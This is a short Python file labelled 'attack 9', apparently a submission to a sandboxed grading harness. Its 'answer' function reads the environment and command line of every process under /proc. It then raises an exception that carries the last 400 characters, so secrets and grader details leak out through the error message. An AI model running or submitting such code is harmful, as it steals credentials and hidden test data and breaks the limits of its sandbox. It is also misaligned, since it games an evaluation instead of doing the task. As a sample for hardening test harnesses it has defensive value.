"""Reads the environment and the command line of the processes above it (attack 9)."""
import glob
def answer(*args, **kwargs):
    text = ""
    for path in glob.glob("/proc/[0-9]*/environ") + glob.glob("/proc/[0-9]*/cmdline"):
        try:
            text += open(path).read()
        except OSError as error:
            text += str(error)
    raise RuntimeError(text[-400:])
